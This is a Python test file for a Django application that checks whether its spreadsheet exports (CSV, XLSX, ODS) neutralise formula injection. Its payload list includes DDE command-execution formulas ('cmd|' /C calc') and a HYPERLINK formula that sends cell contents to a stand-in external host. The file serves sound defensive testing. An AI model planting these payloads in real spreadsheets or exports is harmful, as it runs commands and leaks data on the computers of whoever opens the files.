"""Attack 29: a name that is a formula leaves in a list, and runs in the spreadsheet of whoever opens it.

Every address that ends in `<sheet:kind>` is an export. Each has a stage here, that fills what it shows with formulas;
each is opened by other programs than ours.
"""

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from xml.etree import ElementTree

import openpyxl
import pytest
from django.test import Client
from django.urls import get_resolver, reverse
from django.urls.resolvers import URLResolver

from portevoix.campus.associations.tests.persona import a_party
from portevoix.campus.attendance.tests.persona import a_date
from portevoix.campus.contests.tests.persona import a_contest, an_entry
from portevoix.campus.evaluation.tests.persona import LAW, a_question, came
from portevoix.campus.library.tests.persona import a_work
from portevoix.campus.sittings.acts import register
from portevoix.campus.sittings.tests.persona import a_sitting, a_training
from portevoix.campus.trainings.models import Partner
from portevoix.ground.people.models import Office
from portevoix.ground.population.tests.persona import a_campus, belongs, of_the_mission, someone
from portevoix.ground.schools.models import Campus, School
from portevoix.ground.sheets.sending import Kind
from portevoix.ground.sheets.writing import KINDS, write
from portevoix.ground.web import clock
from portevoix.steering.committee.models import ReviewLine
from portevoix.steering.committee.yearly import open_review
from portevoix.steering.plan import acts as acts_of_plan
from portevoix.steering.plan.tests.persona import a_gauge, a_plan, an_action, an_axis
from portevoix.steering.report import acts as acts_of_report
from portevoix.steering.shares.tests.persona import a_programme, a_share
from portevoix.steering.survey import instrument
from portevoix.steering.survey.tests.answers import already_counted

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example/"&A1,"x")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
]
RUNS = re.compile(r"[=+\-@\t\r\n]")
"""How a cell begins that a spreadsheet may run."""


def people(school: School, formula: str) -> dict[str, str]:
    """Somebody whose every word is a formula, in groups that are formulas too."""
    campus = Campus.objects.create(school=school, name=formula)
    lou = someone(school, given_name=formula, family_name=formula, number=formula[:40], campus=campus)
    belongs(lou, "promotion", formula)
    return {"ident": belongs(lou, "association", formula, formula).ident}


def those_present(school: School, formula: str) -> dict[str, str]:
    """Somebody whose every word is a formula was there."""
    sitting = a_date(school)
    came(someone(school, given_name=formula, family_name=formula, number=formula[:40]), sitting)
    return {"ident": sitting.ident}


def what_was_asked(school: School, formula: str) -> dict[str, str]:
    """A question and answers that are formulas."""
    training = a_training(school)
    a_question(training, LAW, text=formula, choices=[formula, "Non"])
    return {"slug": training.slug}


def those_who_asked(school: School, formula: str) -> dict[str, str]:
    """Somebody whose every word is a formula has a place."""
    sitting, campus = a_sitting(a_training(school)), Campus.objects.create(school=school, name=formula)
    register(sitting, someone(school, given_name=formula, family_name=formula, campus=campus))
    return {"ident": sitting.ident}


def what_was_reviewed(school: School, formula: str) -> dict[str, str]:
    """A year of a plan whose every word is a formula."""
    plan = a_plan(school, 2025, 2027)
    an_action(an_axis(plan, title=formula), title=formula)
    with clock.telling(datetime(2026, 1, 5, tzinfo=UTC)):
        review = open_review(plan, 2025, Office.objects.for_school(school)[0])
    ReviewLine.objects.update(done=formula, gap=formula, correction=formula)
    return {"ident": review.ident}


def what_was_proposed(school: School, formula: str) -> dict[str, str]:
    """A party, its place and its partner."""
    lou = someone(school)
    a_party(lou, belongs(lou, "association", formula, "Présidente"), name=formula, place=formula, partner=formula)
    return {}


def works(school: School, formula: str) -> dict[str, str]:
    """A work whose words are formulas."""
    a_work(school, formula, credits=formula)
    return {}


def films_in_a_contest(school: School, formula: str) -> dict[str, str]:
    """A film that was entered under a formula, and won one."""
    contest = a_contest(school, over=True)
    an_entry(contest, someone(school), formula, authors=formula, award=formula)
    return {"slug": contest.slug}


def a_year_told(school: School, formula: str) -> dict[str, str]:
    """A number that was added by hand, all of whose words are formulas."""
    by = Office.objects.for_school(school).get()
    report = acts_of_report.tell(by, 2025, "board", ["cell"])
    words = dict.fromkeys(("name", "said", "definition", "source"), formula)
    acts_of_report.add(report, by, topic="cell", **words)
    return {"ident": report.ident}


def a_plan_of_formulas(school: School, formula: str) -> dict[str, str]:
    """A measure, an action, an indicator and a value, all of whose words are formulas."""
    axis = an_axis(a_plan(school, 2021, 2024), formula)
    an_action(axis, formula, lead=formula, audience=formula, contributors=[formula])
    gauge = a_gauge(axis, formula, definition=formula, numerator=formula, source=formula)
    by = Office.objects.for_school(school).get()
    acts_of_plan.note_value(gauge, 2022, by, campus=formula, numerator=3, source=formula)
    return {"slug": "2021-2024"}


def what_is_taught(school: School, formula: str) -> dict[str, str]:
    """A training by a partner, all of whose words are formulas."""
    words = dict.fromkeys(("name", "contact_name", "price"), formula)
    partner = Partner.objects.create(school=school, contact_phone=formula[:40], **words)
    a_training(school, formula, partner=partner, reviewed_by=formula)
    return {}


def who_is_trained(school: School, formula: str) -> dict[str, str]:
    """A training that is a formula, for people in groups that are formulas."""
    people(school, formula)
    return {"slug": a_training(school, formula).slug}


def shares_of_women(school: School, formula: str) -> dict[str, str]:
    """A programme, and a source, that are formulas; published."""
    campus = Campus.objects.create(school=school, name=formula)
    a_share(a_programme(school, formula, campus=campus), percent="27.00", source=formula)
    return {}


Stage = Callable[[School, str], dict[str, str]]


def what_a_survey_says(school: School, formula: str) -> dict[str, str]:
    """A campus has a name that would be code, and people enough to be a line of the results."""
    for name in (formula, "Gardanne"):
        Campus.objects.create(school=school, name=name)
    key = next(choice.key for choice in instrument.campuses_of(school) if str(choice.text) == formula)
    told = {"n": 40, "climate.safe": 40, f"climate.safe|yes|campus|{key}": 12, f"climate.safe|campus|{key}": 20}
    return {"slug": already_counted(school, told).survey.slug}


STAGES: dict[str, Stage] = {
    "associations:export": what_was_proposed,
    "attendance:export": those_present,
    "committee:export": what_was_reviewed,
    "contests:export": films_in_a_contest,
    "evaluation:export": what_was_asked,
    "library:export": works,
    **dict.fromkeys(("plan:export_actions", "plan:export_gauges", "plan:export_values"), a_plan_of_formulas),
    "population:export": lambda school, formula: people(school, formula) and {},
    "population:export_group": people,
    "prevention:export": who_is_trained,
    "report:export": a_year_told,
    "sittings:export": those_who_asked,
    "shares:export": shares_of_women,
    "shares:export_all": shares_of_women,
    "survey:export_results": what_a_survey_says,
    "trainings:export": what_is_taught,
    "trainings:export_partners": what_is_taught,
}
"""By name of address: makes what is shown, and gives the words of the address, but the school and the kind."""


def exports(resolver: URLResolver, space: str = "") -> Iterator[str]:
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            yield from exports(pattern, f"{space}{pattern.namespace}:" if pattern.namespace else space)
        elif any(isinstance(converter, Kind) for converter in pattern.pattern.converters.values()):
            yield f"{space}{pattern.name}"


def cells_of(data: bytes, kind: str) -> list[str]:
    """Every text of a file, read by somebody else's program; no cell of it is a formula."""
    if kind == "csv":
        return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";") for cell in row]
    if kind == "xlsx":
        cells = [cell for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)
        return [cell.value for cell in cells if isinstance(cell.value, str)]
    content = ElementTree.fromstring(zipfile.ZipFile(io.BytesIO(data)).read("content.xml"))
    assert not [node for node in content.iter() for name in node.attrib if name.endswith("}formula")]
    return ["".join(node.itertext()) for node in content.iter() if node.tag.endswith("}table-cell")]


def test_every_export_has_a_stage() -> None:
    assert set(exports(get_resolver())) == STAGES.keys(), "add a stage that fills it with formulas"


@pytest.mark.parametrize("name", STAGES)
def test_no_cell_of_an_export_runs(name: str, db: None) -> None:
    client = Client()
    helene = of_the_mission(client, a_campus()).person
    for at, formula in enumerate(FORMULAS):
        school = a_campus(f"mines{at}")
        Office.objects.create(person=helene, school=school)
        words = STAGES[name](school, formula)
        for kind in KINDS:
            answer = client.get(reverse(name, kwargs={"school": school.slug, "kind": kind, **words}))
            assert answer.headers["Content-Type"] == KINDS[kind]
            assert answer.headers["Content-Disposition"].startswith("attachment;")
            cells = cells_of(answer.content, kind)
            assert [cell for cell in cells if RUNS.match(cell)] == []
            assert any(formula.strip().lstrip("'") in cell for cell in cells), "the stage shows nothing of it"


@pytest.mark.parametrize("kind", KINDS)
def test_neither_a_title_nor_a_cell_runs_but_a_number_stays_one(kind: str) -> None:
    data = write(FORMULAS, [[*FORMULAS], [-1, 2.5, *FORMULAS[2:]]], kind, "=1+1")
    assert [cell for cell in cells_of(data, kind) if RUNS.match(cell) and cell != "-1"] == []
    if kind == "xlsx":
        assert [cell.value for cell in openpyxl.load_workbook(io.BytesIO(data)).active[3]][:2] == [-1, 2.5]
